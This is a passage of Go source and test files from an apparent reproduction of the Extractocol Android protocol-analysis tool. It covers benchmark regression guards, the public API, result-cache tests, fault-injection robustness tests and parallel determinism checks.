			t.Fatalf("benchmark %q failed to run", name)
		}
		bl.Ops[name] = sliceOpBaseline{NsPerOp: res.NsPerOp(), AllocsPerOp: res.AllocsPerOp()}
	}
	return bl
}

func TestSliceBenchGuard(t *testing.T) {
	if testing.Short() {
		t.Skip("benchmark guard")
	}
	if raceEnabled {
		t.Skip("race instrumentation skews timing and allocation counts")
	}

	cur := measureSliceOps(t)

	data, err := os.ReadFile(sliceBaselinePath)
	if os.IsNotExist(err) || os.Getenv("EXTRACTOCOL_BENCH_BASELINE") == "write" {
		out, merr := json.MarshalIndent(cur, "", "  ")
		if merr != nil {
			t.Fatal(merr)
		}
		if werr := os.WriteFile(sliceBaselinePath, append(out, '\n'), 0o644); werr != nil {
			t.Fatal(werr)
		}
		t.Logf("wrote %s: %s", sliceBaselinePath, out)
		return
	}
	if err != nil {
		t.Fatal(err)
	}
	var base sliceBenchBaseline
	if err := json.Unmarshal(data, &base); err != nil {
		t.Fatalf("corrupt %s: %v", sliceBaselinePath, err)
	}
	if base.App != cur.App {
		t.Fatalf("baseline measures %q, guard measures %q; regenerate the baseline", base.App, cur.App)
	}

	for name, b := range base.Ops {
		got, ok := cur.Ops[name]
		if !ok {
			t.Errorf("op %q vanished from the guard; regenerate %s if intentional", name, sliceBaselinePath)
			continue
		}
		if got.NsPerOp > b.NsPerOp*nsSlack {
			t.Errorf("%s takes %d ns/op, baseline %d (limit %dx): investigate or regenerate %s",
				name, got.NsPerOp, b.NsPerOp, nsSlack, sliceBaselinePath)
		}
		if got.AllocsPerOp > b.AllocsPerOp*allocsSlack {
			t.Errorf("%s makes %d allocs/op, baseline %d (limit %dx): investigate or regenerate %s",
				name, got.AllocsPerOp, b.AllocsPerOp, allocsSlack, sliceBaselinePath)
		}
	}

	// Absolute allocs/op ceilings on the de-stringed hot paths. Unlike the
	// slack checks above, these never move when the baseline file is
	// regenerated, so an allocation regression cannot be laundered through
	// EXTRACTOCOL_BENCH_BASELINE=write.
	for name, budget := range hotPathAllocBudgets {
		got, ok := cur.Ops[name]
		if !ok {
			t.Errorf("budgeted op %q missing from the guard", name)
			continue
		}
		if got.AllocsPerOp > budget {
			t.Errorf("%s makes %d allocs/op, absolute budget %d: the interned hot path has re-grown string churn",
				name, got.AllocsPerOp, budget)
		}
	}
}

// hotPathAllocBudgets pins the interning refactor's allocation contract as
// absolute ceilings: slice_find sits 5x under its pre-interning baseline
// (2919 allocs/op, see EXPERIMENTS.md) with headroom over the measured ~400;
// taint_backward covers a fresh engine's summary build (measured 26).
var hotPathAllocBudgets = map[string]int64{
	"slice_find":     583,
	"taint_backward": 40,
}

// ---- Pairing + warm-cache guard ------------------------------------------------
//
// TestPairingBenchGuard pins the two hot paths this PR optimized — the
// indexed pairing group analysis and the fully warm cached analysis —
// against BENCH_pairing.json, with the same slack factors and the same
// EXTRACTOCOL_BENCH_BASELINE=write regeneration convention as the guards
// above.

const pairingBaselinePath = "BENCH_pairing.json"

func measurePairingOps(t *testing.T) sliceBenchBaseline {
	t.Helper()
	bl := sliceBenchBaseline{App: guardApp, Ops: map[string]sliceOpBaseline{}}
	for name, fn := range map[string]func(*testing.B){
		"pairing_analyze": BenchmarkPairingAnalyze,
		"cache_warm_run":  BenchmarkCacheWarmRun,
	} {
		res := testing.Benchmark(fn)
		if res.N == 0 {
			t.Fatalf("benchmark %q failed to run", name)
		}
		bl.Ops[name] = sliceOpBaseline{NsPerOp: res.NsPerOp(), AllocsPerOp: res.AllocsPerOp()}
	}
	return bl
}

func TestPairingBenchGuard(t *testing.T) {
	if testing.Short() {
		t.Skip("benchmark guard")
	}
	if raceEnabled {
		t.Skip("race instrumentation skews timing and allocation counts")
	}

	cur := measurePairingOps(t)

	data, err := os.ReadFile(pairingBaselinePath)
	if os.IsNotExist(err) || os.Getenv("EXTRACTOCOL_BENCH_BASELINE") == "write" {
		out, merr := json.MarshalIndent(cur, "", "  ")
		if merr != nil {
			t.Fatal(merr)
		}
		if werr := os.WriteFile(pairingBaselinePath, append(out, '\n'), 0o644); werr != nil {
			t.Fatal(werr)
		}
		t.Logf("wrote %s: %s", pairingBaselinePath, out)
		return
	}
	if err != nil {
		t.Fatal(err)
	}
	var base sliceBenchBaseline
	if err := json.Unmarshal(data, &base); err != nil {
		t.Fatalf("corrupt %s: %v", pairingBaselinePath, err)
	}
	if base.App != cur.App {
		t.Fatalf("baseline measures %q, guard measures %q; regenerate the baseline", base.App, cur.App)
	}

	for name, b := range base.Ops {
		got, ok := cur.Ops[name]
		if !ok {
			t.Errorf("op %q vanished from the guard; regenerate %s if intentional", name, pairingBaselinePath)
			continue
		}
		if got.NsPerOp > b.NsPerOp*nsSlack {
			t.Errorf("%s takes %d ns/op, baseline %d (limit %dx): investigate or regenerate %s",
				name, got.NsPerOp, b.NsPerOp, nsSlack, pairingBaselinePath)
		}
		if got.AllocsPerOp > b.AllocsPerOp*allocsSlack {
			t.Errorf("%s makes %d allocs/op, baseline %d (limit %dx): investigate or regenerate %s",
				name, got.AllocsPerOp, b.AllocsPerOp, allocsSlack, pairingBaselinePath)
		}
	}
}

// ---- Generated-corpus guard ----------------------------------------------------
//
// TestGenBenchGuard pins generation and end-to-end analysis of the fixed
// 100-app seeded corpus (BenchmarkGenCorpusRand, BenchmarkGenCorpusAnalyze)
// against BENCH_gen.json, with the same slack factors and the same
// EXTRACTOCOL_BENCH_BASELINE=write regeneration convention as the guards
// above. It keeps the differential harness affordable: a quadratic slip in
// generation or analysis multiplies across every equivalence axis.

const genBaselinePath = "BENCH_gen.json"

func measureGenOps(t *testing.T) sliceBenchBaseline {
	t.Helper()
	bl := sliceBenchBaseline{App: "gen-1729-100", Ops: map[string]sliceOpBaseline{}}
	for name, fn := range map[string]func(*testing.B){
		"gen_corpus_rand":    BenchmarkGenCorpusRand,
		"gen_corpus_analyze": BenchmarkGenCorpusAnalyze,
	} {
		res := testing.Benchmark(fn)
		if res.N == 0 {
			t.Fatalf("benchmark %q failed to run", name)
		}
		bl.Ops[name] = sliceOpBaseline{NsPerOp: res.NsPerOp(), AllocsPerOp: res.AllocsPerOp()}
	}
	return bl
}

func TestGenBenchGuard(t *testing.T) {
	if testing.Short() {
		t.Skip("benchmark guard")
	}
	if raceEnabled {
		t.Skip("race instrumentation skews timing and allocation counts")
	}

	cur := measureGenOps(t)

	data, err := os.ReadFile(genBaselinePath)
	if os.IsNotExist(err) || os.Getenv("EXTRACTOCOL_BENCH_BASELINE") == "write" {
		out, merr := json.MarshalIndent(cur, "", "  ")
		if merr != nil {
			t.Fatal(merr)
		}
		if werr := os.WriteFile(genBaselinePath, append(out, '\n'), 0o644); werr != nil {
			t.Fatal(werr)
		}
		t.Logf("wrote %s: %s", genBaselinePath, out)
		return
	}
	if err != nil {
		t.Fatal(err)
	}
	var base sliceBenchBaseline
	if err := json.Unmarshal(data, &base); err != nil {
		t.Fatalf("corrupt %s: %v", genBaselinePath, err)
	}
	if base.App != cur.App {
		t.Fatalf("baseline measures %q, guard measures %q; regenerate the baseline", base.App, cur.App)
	}

	for name, b := range base.Ops {
		got, ok := cur.Ops[name]
		if !ok {
			t.Errorf("op %q vanished from the guard; regenerate %s if intentional", name, genBaselinePath)
			continue
		}
		if got.NsPerOp > b.NsPerOp*nsSlack {
			t.Errorf("%s takes %d ns/op, baseline %d (limit %dx): investigate or regenerate %s",
				name, got.NsPerOp, b.NsPerOp, nsSlack, genBaselinePath)
		}
		if got.AllocsPerOp > b.AllocsPerOp*allocsSlack {
			t.Errorf("%s makes %d allocs/op, baseline %d (limit %dx): investigate or regenerate %s",
				name, got.AllocsPerOp, b.AllocsPerOp, allocsSlack, genBaselinePath)
		}
	}
}

// ---- Interned-symbol guard -----------------------------------------------------
//
// TestInternBenchGuard pins the interning layer's own costs — the one-time
// dense-index build and the bitset algebra the hot loops run on
// (BenchmarkInternIndex, BenchmarkInternBitsUnion) — against
// BENCH_intern.json, with the same slack factors and the same
// EXTRACTOCOL_BENCH_BASELINE=write regeneration convention as the guards
// above. The layer buys its speedup with a fixed per-program cost; this
// guard keeps that cost fixed.

const internBaselinePath = "BENCH_intern.json"

func measureInternOps(t *testing.T) sliceBenchBaseline {
	t.Helper()
	bl := sliceBenchBaseline{App: guardApp, Ops: map[string]sliceOpBaseline{}}
	for name, fn := range map[string]func(*testing.B){
		"intern_index":      BenchmarkInternIndex,
		"intern_bits_union": BenchmarkInternBitsUnion,
	} {
		res := testing.Benchmark(fn)
		if res.N == 0 {
			t.Fatalf("benchmark %q failed to run", name)
		}
		bl.Ops[name] = sliceOpBaseline{NsPerOp: res.NsPerOp(), AllocsPerOp: res.AllocsPerOp()}
	}
	return bl
}

func TestInternBenchGuard(t *testing.T) {
	if testing.Short() {
		t.Skip("benchmark guard")
	}
	if raceEnabled {
		t.Skip("race instrumentation skews timing and allocation counts")
	}

	cur := measureInternOps(t)

	data, err := os.ReadFile(internBaselinePath)
	if os.IsNotExist(err) || os.Getenv("EXTRACTOCOL_BENCH_BASELINE") == "write" {
		out, merr := json.MarshalIndent(cur, "", "  ")
		if merr != nil {
			t.Fatal(merr)
		}
		if werr := os.WriteFile(internBaselinePath, append(out, '\n'), 0o644); werr != nil {
			t.Fatal(werr)
		}
		t.Logf("wrote %s: %s", internBaselinePath, out)
		return
	}
	if err != nil {
		t.Fatal(err)
	}
	var base sliceBenchBaseline
	if err := json.Unmarshal(data, &base); err != nil {
		t.Fatalf("corrupt %s: %v", internBaselinePath, err)
	}
	if base.App != cur.App {
		t.Fatalf("baseline measures %q, guard measures %q; regenerate the baseline", base.App, cur.App)
	}

	for name, b := range base.Ops {
		got, ok := cur.Ops[name]
		if !ok {
			t.Errorf("op %q vanished from the guard; regenerate %s if intentional", name, internBaselinePath)
			continue
		}
		if got.NsPerOp > b.NsPerOp*nsSlack {
			t.Errorf("%s takes %d ns/op, baseline %d (limit %dx): investigate or regenerate %s",
				name, got.NsPerOp, b.NsPerOp, nsSlack, internBaselinePath)
		}
		if got.AllocsPerOp > b.AllocsPerOp*allocsSlack {
			t.Errorf("%s makes %d allocs/op, baseline %d (limit %dx): investigate or regenerate %s",
				name, got.AllocsPerOp, b.AllocsPerOp, allocsSlack, internBaselinePath)
		}
	}
}

// ---- Classifier-throughput guard -----------------------------------------------
//
// TestClassifyBenchGuard pins the signature-matcher backends
// (BenchmarkClassifyThroughput's vm, vm_parallel and interp variants)
// against BENCH_classify.json with the usual slack factors and
// EXTRACTOCOL_BENCH_BASELINE=write regeneration convention — plus one
// absolute floor that never moves with the baseline: the compiled VM must
// classify at least 5x faster than the interpretive oracle, the speedup
// the bytecode compiler exists to deliver.

const classifyBaselinePath = "BENCH_classify.json"

// vmSpeedupFloor is the minimum classify_interp/classify_vm ns ratio.
const vmSpeedupFloor = 5

func measureClassifyOps(t *testing.T) sliceBenchBaseline {
	t.Helper()
	bl := sliceBenchBaseline{App: guardApp, Ops: map[string]sliceOpBaseline{}}
	for name, opt := range map[string]trace.ClassifyOptions{
		"classify_vm":          {VM: true},
		"classify_vm_parallel": {VM: true, Workers: -1},
		"classify_interp":      {},
	} {
		opt := opt
		res := testing.Benchmark(func(b *testing.B) { benchClassify(b, opt) })
		if res.N == 0 {
			t.Fatalf("benchmark %q failed to run", name)
		}
		bl.Ops[name] = sliceOpBaseline{NsPerOp: res.NsPerOp(), AllocsPerOp: res.AllocsPerOp()}
	}
	return bl
}

func TestClassifyBenchGuard(t *testing.T) {
	if testing.Short() {
		t.Skip("benchmark guard")
	}
	if raceEnabled {
		t.Skip("race instrumentation skews timing and allocation counts")
	}

	cur := measureClassifyOps(t)

	// The speedup floor holds on the current measurement regardless of the
	// committed baseline, so it cannot be laundered through a regeneration.
	vm := cur.Ops["classify_vm"].NsPerOp
	interp := cur.Ops["classify_interp"].NsPerOp
	if vm*vmSpeedupFloor > interp {
		t.Errorf("compiled VM classifies at %d ns/op vs interpretive %d ns/op (%.1fx): floor is %dx",
			vm, interp, float64(interp)/float64(vm), vmSpeedupFloor)
	}

	data, err := os.ReadFile(classifyBaselinePath)
	if os.IsNotExist(err) || os.Getenv("EXTRACTOCOL_BENCH_BASELINE") == "write" {
		out, merr := json.MarshalIndent(cur, "", "  ")
		if merr != nil {
			t.Fatal(merr)
		}
		if werr := os.WriteFile(classifyBaselinePath, append(out, '\n'), 0o644); werr != nil {
			t.Fatal(werr)
		}
		t.Logf("wrote %s: %s", classifyBaselinePath, out)
		return
	}
	if err != nil {
		t.Fatal(err)
	}
	var base sliceBenchBaseline
	if err := json.Unmarshal(data, &base); err != nil {
		t.Fatalf("corrupt %s: %v", classifyBaselinePath, err)
	}
	if base.App != cur.App {
		t.Fatalf("baseline measures %q, guard measures %q; regenerate the baseline", base.App, cur.App)
	}

	for name, b := range base.Ops {
		got, ok := cur.Ops[name]
		if !ok {
			t.Errorf("op %q vanished from the guard; regenerate %s if intentional", name, classifyBaselinePath)
			continue
		}
		if got.NsPerOp > b.NsPerOp*nsSlack {
			t.Errorf("%s takes %d ns/op, baseline %d (limit %dx): investigate or regenerate %s",
				name, got.NsPerOp, b.NsPerOp, nsSlack, classifyBaselinePath)
		}
		if got.AllocsPerOp > b.AllocsPerOp*allocsSlack {
			t.Errorf("%s makes %d allocs/op, baseline %d (limit %dx): investigate or regenerate %s",
				name, got.AllocsPerOp, b.AllocsPerOp, allocsSlack, classifyBaselinePath)
		}
	}
}

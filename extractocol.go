// Package extractocol is the public API of this repository: a from-scratch
// Go reproduction of "Enabling Automatic Protocol Behavior Analysis for
// Android Applications" (CoNEXT 2016).
//
// Extractocol takes an Android application binary as its only input and
// statically reconstructs the application's HTTP(S) protocol behavior:
//
//   - every HTTP transaction (request/response pair), found by tainting
//     demarcation points — the API calls through which messages cross into
//     the network — and slicing bidirectionally from them;
//   - message signatures: request method, URI and query string as regular
//     expressions, headers, and request/response bodies as JSON or XML
//     trees;
//   - fine-grained inter-transaction dependencies (an auth token minted by
//     a login response and spent in later request bodies or headers);
//   - how network data is consumed (media player, file, UI) and where
//     request data originates (microphone, camera, location, device IDs).
//
// The facade wraps the pipeline in internal/core; applications are
// ir.Program values decoded from .apkb containers (internal/dex). See
// README.md for the architecture and examples/ for runnable scenarios.
package extractocol

import (
	"extractocol/internal/core"
	"extractocol/internal/dex"
	"extractocol/internal/ir"
	"extractocol/internal/report"
)

// Report is a complete protocol-behavior analysis of one application.
type Report = core.Report

// Transaction is one reconstructed HTTP transaction.
type Transaction = core.Transaction

// Options configures an analysis run.
type Options = core.Options

// Program is a decoded application binary.
type Program = ir.Program

// DefaultOptions returns the standard configuration: asynchronous-event
// heuristic enabled with one hop (§3.4), no class scoping.
func DefaultOptions() Options { return core.NewOptions() }

// Analyze runs the full Extractocol pipeline over a decoded application.
func Analyze(p *Program, opts Options) (*Report, error) {
	return core.Analyze(p, opts)
}

// AnalyzeFile decodes an .apkb container and analyzes it with the default
// options.
func AnalyzeFile(path string) (*Report, error) {
	p, err := dex.ReadFile(path)
	if err != nil {
		return nil, err
	}
	return core.Analyze(p, core.NewOptions())
}

// TextReport renders a report as human-readable text.
func TextReport(r *Report) string { return report.Text(r) }

// JSONReport renders a report as machine-readable JSON.
func JSONReport(r *Report) ([]byte, error) { return report.JSON(r) }

// DOTReport renders the inter-transaction dependency graph in Graphviz
// DOT format.
func DOTReport(r *Report) string { return report.DOT(r) }

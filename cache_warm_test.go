// Warm-path acceptance tests for the persistent result cache: a warm run
// must skip the analysis pipeline entirely and serve a byte-identical
// report, for one app and across the whole parallel corpus evaluation.
package extractocol

import (
	"testing"

	"extractocol/internal/core"
	"extractocol/internal/corpus"
	"extractocol/internal/evaluate"
	"extractocol/internal/obs"
	"extractocol/internal/report"
	"extractocol/internal/resultcache"
)

// reportBytes renders a report's JSON with the run-local fields zeroed, the
// equality notion under which cached and recomputed reports must agree.
func reportBytes(t *testing.T, rep *core.Report) string {
	t.Helper()
	clone := *rep
	clone.Duration = 0
	clone.Profile = nil
	data, err := report.JSON(&clone)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// TestWarmRunSkipsPipeline is the tentpole acceptance check: after a cold
// run fills the cache, a warm run of the same binary + options serves the
// identical report with zero pipeline work — its profile records only the
// resultcache phase, no slicing, pairing, signature or dependency phase
// ever starts, and the hit counter reads exactly 1.
func TestWarmRunSkipsPipeline(t *testing.T) {
	app, err := corpus.ByName("radio reddit")
	if err != nil {
		t.Fatal(err)
	}
	cache, err := resultcache.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	opts := core.NewOptions()
	key, err := resultcache.KeyForProgram(app.Prog, opts)
	if err != nil {
		t.Fatal(err)
	}
	opts.Cache = cache
	opts.CacheKey = key

	cold, err := core.Analyze(app.Prog, opts)
	if err != nil {
		t.Fatal(err)
	}
	if got := cold.Profile.Counters[obs.CtrCacheReportMisses]; got != 1 {
		t.Fatalf("cold run cache_report_misses = %d, want 1", got)
	}
	if got := cold.Profile.Counters[obs.CtrCacheReportWrites]; got != 1 {
		t.Fatalf("cold run cache_report_writes = %d, want 1", got)
	}

	warm, err := core.Analyze(app.Prog, opts)
	if err != nil {
		t.Fatal(err)
	}
	if got := warm.Profile.Counters[obs.CtrCacheReportHits]; got != 1 {
		t.Fatalf("warm run cache_report_hits = %d, want 1", got)
	}
	for _, ph := range warm.Profile.Phases {
		if ph.Name != obs.PhaseResultCache {
			t.Errorf("warm run entered pipeline phase %q", ph.Name)
		}
	}
	for _, ctr := range []string{obs.CtrSliceJobs, obs.CtrTaintFacts, obs.CtrPairFlowChecks, obs.CtrDPSites} {
		if got := warm.Profile.Counters[ctr]; got != 0 {
			t.Errorf("warm run did pipeline work: %s = %d, want 0", ctr, got)
		}
	}
	if warm.Duration <= 0 {
		t.Error("warm run must report a fresh (positive) duration")
	}
	if reportBytes(t, warm) != reportBytes(t, cold) {
		t.Error("warm report differs from cold report")
	}
}

// TestCorpusWarmRunEquivalence runs the whole parallel corpus evaluation
// cold and then warm against one shared cache directory: every app's warm
// report must be byte-identical to its cold one, and every app must be
// served from the cache (hits sum to the corpus size).
func TestCorpusWarmRunEquivalence(t *testing.T) {
	if testing.Short() {
		t.Skip("full corpus twice")
	}
	cfg := evaluate.RunConfig{CacheDir: t.TempDir()}

	cold, _, err := evaluate.RunAllConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	warm, _, err := evaluate.RunAllConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if len(cold) != len(warm) || len(cold) == 0 {
		t.Fatalf("cold ran %d apps, warm %d", len(cold), len(warm))
	}

	var hits int64
	for i := range cold {
		if cold[i].App.Spec.Name != warm[i].App.Spec.Name {
			t.Fatalf("app order diverged: %s vs %s", cold[i].App.Spec.Name, warm[i].App.Spec.Name)
		}
		if got, want := reportBytes(t, warm[i].Report), reportBytes(t, cold[i].Report); got != want {
			t.Errorf("%s: warm report differs from cold report", cold[i].App.Spec.Name)
		}
		hits += warm[i].Report.Profile.Counters[obs.CtrCacheReportHits]
	}
	if hits != int64(len(warm)) {
		t.Errorf("cache_report_hits total = %d, want %d (every app served warm)", hits, len(warm))
	}
}

// Fault-injection robustness: a deterministic injected failure in any
// pipeline phase must degrade the analysis — a report still ships, with
// diagnostics naming what was lost — never crash it. ci.sh runs these
// under -race, so the per-job recovery paths are exercised concurrently.
package extractocol

import (
	"strings"
	"testing"
	"time"

	"extractocol/internal/budget"
	"extractocol/internal/core"
	"extractocol/internal/corpus"
	"extractocol/internal/dex"
	"extractocol/internal/evaluate"
	"extractocol/internal/report"
)

// TestFaultInjectionPerPhase injects one panic per app into each worker
// phase across the whole corpus. Every app must still produce a report,
// the panic must surface as a diagnostic somewhere in the corpus, and no
// app may gain transactions relative to the clean run.
func TestFaultInjectionPerPhase(t *testing.T) {
	if testing.Short() {
		t.Skip("analyzes the whole corpus once per phase")
	}
	apps := corpus.Apps()
	baseline := map[string]int{}
	for _, app := range apps {
		rep, err := core.Analyze(app.Prog, core.NewOptions())
		if err != nil {
			t.Fatalf("%s baseline: %v", app.Spec.Name, err)
		}
		baseline[app.Spec.Name] = len(rep.Transactions)
	}

	for _, phase := range []string{
		budget.PhaseSlice, budget.PhaseTaint, budget.PhaseSigbuild,
		budget.PhasePairing, budget.PhaseTxdep,
	} {
		phase := phase
		t.Run(phase, func(t *testing.T) {
			diags := 0
			for _, app := range apps {
				opts := core.NewOptions()
				// Site "" matches every probe; Once limits the blast
				// radius to the first job the phase runs for this app.
				opts.Faults = budget.NewFaultInjector(budget.Fault{
					Phase: phase, Kind: budget.FaultPanic, Once: true,
				})
				rep, err := core.Analyze(app.Prog, opts)
				if err != nil {
					t.Fatalf("%s: analysis aborted instead of degrading: %v", app.Spec.Name, err)
				}
				if rep == nil {
					t.Fatalf("%s: nil report", app.Spec.Name)
				}
				if got := len(rep.Transactions); got > baseline[app.Spec.Name] {
					t.Errorf("%s: %d transactions under fault, baseline %d",
						app.Spec.Name, got, baseline[app.Spec.Name])
				}
				for _, d := range rep.Diagnostics {
					if d.Kind != budget.DiagPanic && d.Kind != budget.DiagBudget && d.Kind != budget.DiagSkipped {
						t.Errorf("%s: unknown diagnostic kind %q", app.Spec.Name, d.Kind)
					}
				}
				diags += len(rep.Diagnostics)
			}
			if diags == 0 {
				t.Errorf("phase %s: injected panics produced no diagnostics anywhere in the corpus", phase)
			}
		})
	}
}

// TestDecodeFaultInjection covers the phase in front of the pipeline: a
// panic inside the container decoder must come back as an error.
func TestDecodeFaultInjection(t *testing.T) {
	app, err := corpus.ByName("radio reddit")
	if err != nil {
		t.Fatal(err)
	}
	data, err := dex.Encode(app.Prog)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := dex.DecodeFaults(data, nil); err != nil {
		t.Fatalf("clean decode failed: %v", err)
	}
	inj := budget.NewFaultInjector(budget.Fault{
		Phase: budget.PhaseDecode, Kind: budget.FaultPanic,
	})
	p, err := dex.DecodeFaults(data, inj)
	if err == nil {
		t.Fatal("injected decoder panic surfaced as success")
	}
	if p != nil {
		t.Fatal("failed decode returned a program")
	}
	if !strings.Contains(err.Error(), "decoder panic") {
		t.Errorf("error %q does not identify the recovered panic", err)
	}
}

// TestEvaluateAggregatesAppErrors pins the corpus-runner contract: one
// broken app (validate-phase faults abort that app's analysis outright)
// must be reported in ParallelStats.Errors while the other 33 apps still
// evaluate.
func TestEvaluateAggregatesAppErrors(t *testing.T) {
	if testing.Short() {
		t.Skip("evaluates the whole corpus")
	}
	target, err := corpus.ByName("Diode")
	if err != nil {
		t.Fatal(err)
	}
	cfg := evaluate.RunConfig{
		Faults: budget.NewFaultInjector(budget.Fault{
			Phase: budget.PhaseValidate,
			Site:  target.Prog.Manifest.Package,
			Kind:  budget.FaultPanic,
		}),
	}
	results, stats, err := evaluate.RunAllConfig(cfg)
	if err != nil {
		t.Fatalf("aggregated run returned a top-level error: %v", err)
	}
	total := len(corpus.Apps())
	if len(results) != total-1 {
		t.Errorf("got %d results, want %d (corpus minus the faulted app)", len(results), total-1)
	}
	if stats.AppErrors != 1 || len(stats.Errors) != 1 {
		t.Fatalf("AppErrors=%d Errors=%v, want exactly one", stats.AppErrors, stats.Errors)
	}
	if stats.Errors[0].App != "Diode" {
		t.Errorf("failed app = %q, want Diode", stats.Errors[0].App)
	}
	if !strings.Contains(stats.Errors[0].Err, "panic") {
		t.Errorf("error %q does not mention the recovered panic", stats.Errors[0].Err)
	}
	for _, r := range results {
		if r.App.Spec.Name == "Diode" {
			t.Error("faulted app still present in results")
		}
	}
}

// TestInjectedHangDegradesOnlyTargetApp is the acceptance scenario: a
// diverging fixpoint (injected hang) in one app under a 1-second deadline
// must complete with diagnostics for the affected transactions, while
// every other app's text report stays byte-identical to the unbudgeted
// run.
func TestInjectedHangDegradesOnlyTargetApp(t *testing.T) {
	if testing.Short() {
		t.Skip("analyzes the whole corpus twice")
	}
	const targetName = "radio reddit"
	target, err := corpus.ByName(targetName)
	if err != nil {
		t.Fatal(err)
	}
	clean, err := core.Analyze(target.Prog, core.NewOptions())
	if err != nil {
		t.Fatal(err)
	}
	if len(clean.Transactions) == 0 {
		t.Fatal("target app has no transactions to degrade")
	}
	// Address the hang at the first transaction's demarcation point: the
	// backward slice of that DP spins until the deadline trips.
	site, _, _ := strings.Cut(clean.Transactions[0].DP, "@")

	for _, app := range corpus.Apps() {
		app := app
		t.Run(app.Spec.Name, func(t *testing.T) {
			t.Parallel()
			base, err := core.Analyze(app.Prog, core.NewOptions())
			if err != nil {
				t.Fatal(err)
			}
			opts := core.NewOptions()
			opts.Deadline = time.Second
			opts.Faults = budget.NewFaultInjector(budget.Fault{
				Phase: budget.PhaseTaint, Site: site, Kind: budget.FaultHang,
			})
			rep, err := core.Analyze(app.Prog, opts)
			if err != nil {
				t.Fatalf("budgeted analysis aborted: %v", err)
			}
			if app.Spec.Name == targetName {
				if len(rep.Diagnostics) == 0 {
					t.Fatal("hung app shipped no diagnostics")
				}
				sawBudget := false
				for _, d := range rep.Diagnostics {
					if d.Kind == budget.DiagBudget || d.Kind == budget.DiagSkipped {
						sawBudget = true
					}
				}
				if !sawBudget {
					t.Errorf("no budget diagnostics on hung app: %v", rep.Diagnostics)
				}
				if len(rep.Transactions) >= len(base.Transactions) {
					t.Errorf("hang dropped nothing: %d transactions, baseline %d",
						len(rep.Transactions), len(base.Transactions))
				}
				return
			}
			if len(rep.Diagnostics) != 0 {
				t.Fatalf("unaffected app has diagnostics: %v", rep.Diagnostics)
			}
			b, g := normalizeReport(report.Text(base)), normalizeReport(report.Text(rep))
			if b != g {
				t.Errorf("report changed under budget\n--- clean ---\n%s\n--- budgeted ---\n%s", b, g)
			}
		})
	}
}

// Graceful-degradation monotonicity: shrinking the slice-step budget must
// shrink the output predictably. Budgeted slicing runs serially and drains
// one cumulative step pool in job order, so the completed transactions of
// any budgeted run are a prefix of the unbudgeted run's, and everything
// dropped is named in the diagnostics.
package extractocol

import (
	"strings"
	"testing"

	"extractocol/internal/budget"
	"extractocol/internal/core"
	"extractocol/internal/corpus"
)

func TestDegradationMonotonic(t *testing.T) {
	app, err := corpus.ByName("radio reddit")
	if err != nil {
		t.Fatal(err)
	}
	baseOpts := core.NewOptions()
	baseOpts.Workers = 1
	base, err := core.Analyze(app.Prog, baseOpts)
	if err != nil {
		t.Fatal(err)
	}
	baseKeys := txKeys(base)
	if len(baseKeys) == 0 {
		t.Fatal("baseline has no transactions")
	}

	prev := len(baseKeys) + 1
	sawShorter := false
	for _, steps := range []int64{1 << 20, 2000, 500, 100, 10} {
		opts := core.NewOptions()
		opts.Workers = 1
		opts.MaxSliceSteps = steps
		rep, err := core.Analyze(app.Prog, opts)
		if err != nil {
			t.Fatalf("steps=%d: %v", steps, err)
		}
		keys := txKeys(rep)

		// Prefix property: a tighter budget never reorders or substitutes
		// transactions, it only cuts the tail.
		if len(keys) > len(baseKeys) {
			t.Fatalf("steps=%d: %d transactions exceed baseline %d", steps, len(keys), len(baseKeys))
		}
		for i, k := range keys {
			if k != baseKeys[i] {
				t.Fatalf("steps=%d: transaction %d is %q, baseline has %q (not a prefix)",
					steps, i, k, baseKeys[i])
			}
		}

		// Monotonicity: fewer steps can only mean fewer transactions.
		if len(keys) > prev {
			t.Errorf("steps=%d completed %d transactions, larger than the %d of a bigger budget",
				steps, len(keys), prev)
		}
		prev = len(keys)

		if len(keys) < len(baseKeys) {
			sawShorter = true
			if len(rep.Diagnostics) == 0 {
				t.Errorf("steps=%d dropped transactions without diagnostics", steps)
			}
			for _, d := range rep.Diagnostics {
				if d.Phase != budget.PhaseSlice {
					t.Errorf("steps=%d: diagnostic in phase %q, want slice: %s", steps, d.Phase, d)
				}
				// Slice diagnostics name the dropped job "entry -> dp@site".
				if !strings.Contains(d.Site, " -> ") {
					t.Errorf("steps=%d: diagnostic %q does not name the dropped job", steps, d)
				}
			}
		}
	}
	if !sawShorter {
		t.Fatal("no budget in the ladder actually truncated the analysis; tighten the smallest step count")
	}
}

// txKeys lists the report's transaction identities in output order.
func txKeys(r *core.Report) []string {
	var out []string
	for _, tx := range r.Transactions {
		out = append(out, tx.Key())
	}
	return out
}

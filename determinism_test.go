// Parallel-vs-serial determinism: core.Analyze fans transaction extraction
// and signature building across worker pools, and this test pins the
// contract that parallelism is invisible in the output — for every corpus
// app, the serial (Workers=1) and parallel text reports are byte-identical
// once wall-clock lines are removed. ci.sh runs this under -race, which
// also exercises the shared analysis caches for data races.
package extractocol

import (
	"fmt"
	"strings"
	"testing"

	"extractocol/internal/budget"
	"extractocol/internal/callgraph"
	"extractocol/internal/core"
	"extractocol/internal/corpus"
	"extractocol/internal/ir"
	"extractocol/internal/obs"
	"extractocol/internal/report"
	"extractocol/internal/semmodel"
	"extractocol/internal/taint"
)

// normalizeReport strips the only time-dependent lines of a text report
// (total analysis time and the per-phase breakdown).
func normalizeReport(s string) string {
	var out []string
	for _, line := range strings.Split(s, "\n") {
		if strings.Contains(line, "analysis time:") || strings.HasPrefix(line, "  phases:") {
			continue
		}
		out = append(out, line)
	}
	return strings.Join(out, "\n")
}

func TestParallelAnalyzeDeterministic(t *testing.T) {
	if testing.Short() {
		t.Skip("analyzes the whole corpus twice")
	}
	for _, app := range corpus.Apps() {
		app := app
		t.Run(app.Spec.Name, func(t *testing.T) {
			t.Parallel()
			serialOpts := core.NewOptions()
			serialOpts.Workers = 1
			serial, err := core.Analyze(app.Prog, serialOpts)
			if err != nil {
				t.Fatal(err)
			}
			parallel, err := core.Analyze(app.Prog, core.NewOptions())
			if err != nil {
				t.Fatal(err)
			}
			s, p := normalizeReport(report.Text(serial)), normalizeReport(report.Text(parallel))
			if s != p {
				t.Errorf("parallel report differs from serial\n--- serial ---\n%s\n--- parallel ---\n%s", s, p)
			}
		})
	}
}

